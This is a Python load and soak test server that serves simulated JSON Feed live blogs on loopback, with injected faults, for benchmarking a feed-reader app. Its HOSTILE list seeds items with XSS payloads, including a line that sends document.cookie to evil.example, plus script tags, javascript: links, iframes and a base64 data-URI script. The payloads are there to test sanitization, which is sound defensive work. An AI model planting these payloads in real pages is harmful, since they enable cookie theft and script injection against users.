#!/usr/bin/env python3
"""Live blogs on loopback for bench/load.sh and bench/soak.sh (Python 3 standard library only).

burst PORT [--initial N]
    One JSON Feed at http://127.0.0.1:PORT/feed.json holding every update it has (newest first).
    GET /burst?n=1000&ms=1000 adds n updates spread evenly over ms milliseconds (20 steps);
    GET /fill?n=5000 adds n at once; GET /count says how many it holds. Conditional GET (ETag).

soak BASE_PORT [--sources 10] [--seed 1] [--per-minute 300] [--faults 0.15] [--window 300]
    SOURCES live blogs, one per port BASE_PORT.. (a port each, so one source's Retry-After does not
    slow the others: the app throttles per host and port), each at /feed.json. Together they publish
    PER-MINUTE updates a minute (a week of a busy live blog in half an hour), edit earlier updates,
    withdraw some (the _wirewatch deleted marker) and drop others from the feed, and now and then
    publish a very large item (100-400 kB of HTML). Every item may carry hostile HTML (script,
    event handlers, javascript: links, iframes, CSS); some have bad dates. A fraction FAULTS of the
    responses is a fault, drawn from a seeded random generator: 500, 503 with Retry-After, a slow
    trickle (the body over ~20 s), a connection cut mid-body, malformed JSON, a huge response (~6 MB,
    under the app's 10 MB limit, or ~12 MB over it), a wrong Content-Type with an HTML error page.
    GET /stats on BASE_PORT prints counters as key=value. Binds 127.0.0.1 only.
"""
import argparse
import hashlib
import json
import random
import sys
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlparse


def iso(t):
    return time.strftime("%Y-%m-%dT%H:%M:%S", time.gmtime(t)) + ".%03dZ" % int((t % 1) * 1000)


def feed_doc(title, items):
    return {"version": "https://jsonfeed.org/version/1.1", "title": title, "items": items}


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "liveserver"

    def log_message(self, *args):
        pass

    def send_body(self, status, body, ctype="application/feed+json", headers=None, etag=None):
        self.send_response(status)
        self.send_header("Content-Type", ctype)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Cache-Control", "no-cache")
        if etag:
            self.send_header("ETag", etag)
        for k, v in (headers or {}).items():
            self.send_header(k, v)
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        try:
            self.server.app.handle(self)
        except (BrokenPipeError, ConnectionResetError):
            pass


# ---------------------------------------------------------------- burst


class Burst:
    def __init__(self, initial):
        self.lock = threading.Lock()
        self.items = []  # oldest first
        self.version = 0
        self.cache = None
        self.add(initial)

    def add(self, n):
        with self.lock:
            now = time.time()
            for _ in range(n):
                i = len(self.items)
                self.items.append({
                    "id": f"b{i}",
                    "url": f"http://127.0.0.1/live/b{i}",
                    "title": f"Update {i}: the council votes on the harbour plan, amendment {i % 97}",
                    "content_text": (f"Body of update {i}. " + "Councillors spoke for and against. " * (1 + i % 4)),
                    "date_published": iso(now),
                    "authors": [{"name": ["Desk", "Anna K.", "R. Iyer", "M. Okafor"][i % 4]}],
                })
            self.version += 1
            self.cache = None

    def burst(self, n, ms):
        steps = 20
        per = [n // steps + (1 if s < n % steps else 0) for s in range(steps)]
        start = time.time()
        for s, k in enumerate(per):
            self.add(k)
            delay = start + (s + 1) * ms / 1000 / steps - time.time()
            if delay > 0:
                time.sleep(delay)

    def handle(self, h):
        url = urlparse(h.path)
        q = {k: v[0] for k, v in parse_qs(url.query).items()}
        if url.path == "/burst":
            n, ms = int(q.get("n", 1000)), int(q.get("ms", 1000))
            threading.Thread(target=self.burst, args=(n, ms), daemon=True).start()
            h.send_body(200, f"burst n={n} ms={ms} at={int(time.time() * 1000)}\n".encode(), "text/plain")
        elif url.path == "/fill":
            self.add(int(q.get("n", 5000)))
            h.send_body(200, f"count={len(self.items)}\n".encode(), "text/plain")
        elif url.path == "/count":
            h.send_body(200, f"count={len(self.items)}\n".encode(), "text/plain")
        elif url.path == "/feed.json":
            with self.lock:
                if self.cache is None:
                    body = json.dumps(feed_doc("Burst", self.items[::-1])).encode()
                    self.cache = (body, f'"v{self.version}"')
                body, etag = self.cache
            if h.headers.get("If-None-Match") == etag:
                h.send_response(304)
                h.send_header("ETag", etag)
                h.send_header("Content-Length", "0")
                h.end_headers()
            else:
                h.send_body(200, body, etag=etag)
        else:
            h.send_body(404, b"not found\n", "text/plain")


# ---------------------------------------------------------------- soak

HOSTILE = [
    '<script>alert(document.cookie)</script>',
    '<img src="x" onerror="fetch(\'http://evil.example/\'+document.cookie)">',
    '<a href="javascript:alert(1)">read more</a>',
    '<iframe src="http://evil.example/frame"></iframe>',
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:url(http://evil.example/t.png)">x</div>',
    '<svg onload="alert(1)"><circle r="4"/></svg>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
    '<object data="http://evil.example/x.swf"></object><form action="http://evil.example"><input name=p></form>',
    '<p>' + '<b>' * 200 + 'deeply nested' + '</b>' * 200 + '</p>',
    '<p>Unclosed <i>tags <b>everywhere <a href="http://127.0.0.1/ok">link',
]
BAD_DATES = ["yesterday", "2026-13-45T99:99:99Z", "", "9999-12-31T23:59:59Z", "1970-01-01T00:00:00Z",
             "Thu, 31 Feb 2026 25:61:00 GMT", "2026-06-01", "null", "1e12"]
FAULTS = ["500", "503", "trickle", "cut", "malformed", "huge", "hugeover", "html"]
FAULT_WEIGHTS = [3, 3, 2, 3, 3, 1, 0.5, 1.5]


class Blog:
    """One live blog: a window of its latest updates, edited and withdrawn as it goes."""

    def __init__(self, n, rng, window):
        self.n = n
        self.rng = rng
        self.window = window
        self.items = {}  # id -> item, insertion order = publication order
        self.next = 0
        self.version = 0
        self.cache = None

    def item(self, i, now):
        rng = self.rng
        body = f"<p>Update {i} of blog {self.n}. " + "The minister said the talks would resume. " * rng.randint(1, 6) + "</p>"
        if rng.random() < 0.3:
            body += rng.choice(HOSTILE)
        it = {
            "id": f"s{self.n}-u{i}",
            "url": f"http://127.0.0.1/blog{self.n}/u{i}",
            "title": f"{['Live', 'Breaking', 'Update', 'Analysis'][i % 4]}: blog {self.n} item {i}"
                     + (" <script>alert('t')</script>" if rng.random() < 0.05 else ""),
            "content_html": body,
            "date_published": iso(now),
            "authors": [{"name": rng.choice(["Desk", "Anna K.", "R. Iyer", "M. Okafor", "<b>Bold</b> Name"])}],
        }
        if rng.random() < 0.04:
            it["date_published"] = rng.choice(BAD_DATES)
        if rng.random() < 0.002:  # a very large item: a speech in full, a table, an embed dump
            it["content_html"] = "<p>" + ("Full text of the statement, paragraph after paragraph. " * rng.randint(2000, 7000)) + "</p>"
        if rng.random() < 0.02:
            it["_wirewatch"] = {"priority": "breaking"}
        return it

    def tick(self, publish, now, stats):
        rng = self.rng
        for _ in range(publish):
            it = self.item(self.next, now)
            self.items[it["id"]] = it
            self.next += 1
            stats["published"] += 1
        ids = list(self.items)
        if ids and rng.random() < 0.1:  # an edit of an earlier update
            it = self.items[rng.choice(ids[-100:])]
            if not it.get("_wirewatch", {}).get("deleted"):
                it["title"] = it["title"].split(" (edited")[0] + f" (edited {iso(now)[11:19]})"
                it["content_html"] = it["content_html"][:20000] + f"<p>Correction at {iso(now)}.</p>"
                it["date_modified"] = iso(now)
                stats["edits"] += 1
        if ids and rng.random() < 0.015:  # withdrawn with a marker
            it = self.items[rng.choice(ids[-100:])]
            it["_wirewatch"] = {"deleted": True}
            it["date_modified"] = iso(now)
            stats["withdrawn"] += 1
        if ids and rng.random() < 0.01:  # silently dropped from the feed
            del self.items[rng.choice(ids[-100:])]
            stats["dropped"] += 1
        while len(self.items) > self.window:
            del self.items[next(iter(self.items))]
        self.version += 1
        self.cache = None

    def body(self):
        if self.cache is None:
            doc = feed_doc(f"Blog {self.n}", list(self.items.values())[::-1])
            body = json.dumps(doc).encode()
            self.cache = (body, '"%s"' % hashlib.md5(body).hexdigest()[:16])
        return self.cache


class Soak:
    def __init__(self, args):
        self.lock = threading.Lock()
        self.rng = random.Random(args.seed)
        self.blogs = [Blog(n, random.Random(args.seed * 1000 + n), args.window) for n in range(args.sources)]
        self.per_minute = args.per_minute
        self.faults = args.faults
        self.stats = {k: 0 for k in ["requests", "ok", "not_modified", "published", "edits", "withdrawn", "dropped"] + FAULTS}
        self.base = args.port
        threading.Thread(target=self.run, daemon=True).start()

    def run(self):
        # Ticks every 0.5 s; publications are spread over the blogs at random (some busier than others).
        carry = 0.0
        weights = [1 + n for n in range(len(self.blogs))]
        while True:
            time.sleep(0.5)
            carry += self.per_minute / 120
            k, carry = int(carry), carry - int(carry)
            with self.lock:
                counts = [0] * len(self.blogs)
                for _ in range(k):
                    counts[self.rng.choices(range(len(self.blogs)), weights)[0]] += 1
                now = time.time()
                for blog, c in zip(self.blogs, counts):
                    blog.tick(c, now, self.stats)

    def handle(self, h):
        port = h.server.server_address[1]
        path = urlparse(h.path).path
        if path == "/stats":
            with self.lock:
                line = " ".join(f"{k}={v}" for k, v in self.stats.items()) + "\n"
            h.send_body(200, line.encode(), "text/plain")
            return
        if path != "/feed.json":
            h.send_body(404, b"not found\n", "text/plain")
            return
        blog = self.blogs[port - self.base]
        with self.lock:
            self.stats["requests"] += 1
            body, etag = blog.body()
            fault = self.rng.choices(FAULTS, FAULT_WEIGHTS)[0] if self.rng.random() < self.faults else None
            if fault:
                self.stats[fault] += 1
        if fault == "500":
            h.send_body(500, b"<html><body>Internal Server Error</body></html>", "text/html")
        elif fault == "503":
            h.send_body(503, b"busy\n", "text/plain", {"Retry-After": str(self.rng.randint(3, 20))})
        elif fault == "trickle":
            h.send_response(200)
            h.send_header("Content-Type", "application/feed+json")
            h.send_header("Content-Length", str(len(body)))
            h.end_headers()
            chunk = max(1, len(body) // 40)
            for i in range(0, len(body), chunk):
                h.wfile.write(body[i:i + chunk])
                h.wfile.flush()
                time.sleep(0.5)
        elif fault == "cut":
            h.send_response(200)
            h.send_header("Content-Type", "application/feed+json")
            h.send_header("Content-Length", str(len(body)))
            h.end_headers()
            h.wfile.write(body[: len(body) // 2])
            h.wfile.flush()
            h.close_connection = True
            h.connection.shutdown(2)
        elif fault == "malformed":
            h.send_body(200, body[: len(body) * 2 // 3] + b',,{"id": ]', etag='"bad"')
        elif fault in ("huge", "hugeover"):
            size = 6_000_000 if fault == "huge" else 12_000_000
            pad = {"id": "pad", "title": "padding", "content_text": "x" * (size - len(body))}
            doc = json.loads(body)
            doc["items"].append(pad)
            h.send_body(200, json.dumps(doc).encode())
        elif fault == "html":
            h.send_body(200, b"<!doctype html><title>Gateway</title><h1>Bad gateway</h1>", "text/html")
        else:
            if h.headers.get("If-None-Match") == etag:
                with self.lock:
                    self.stats["not_modified"] += 1
                h.send_response(304)
                h.send_header("ETag", etag)
                h.send_header("Content-Length", "0")
                h.end_headers()
            else:
                with self.lock:
                    self.stats["ok"] += 1
                h.send_body(200, body, etag=etag)


def serve(app, port):
    srv = ThreadingHTTPServer(("127.0.0.1", port), Handler)
    srv.daemon_threads = True
    srv.app = app
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    return srv


def main():
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="mode", required=True)
    b = sub.add_parser("burst")
    b.add_argument("port", type=int)
    b.add_argument("--initial", type=int, default=20)
    s = sub.add_parser("soak")
    s.add_argument("port", type=int)
    s.add_argument("--sources", type=int, default=10)
    s.add_argument("--seed", type=int, default=1)
    s.add_argument("--per-minute", type=int, default=300)
    s.add_argument("--faults", type=float, default=0.15)
    s.add_argument("--window", type=int, default=300)
    args = p.parse_args()
    if args.mode == "burst":
        serve(Burst(args.initial), args.port)
    else:
        app = Soak(args)
        for n in range(args.sources):
            serve(app, args.port + n)
    print("ready", flush=True)
    while True:
        time.sleep(3600)


if __name__ == "__main__":
    main()
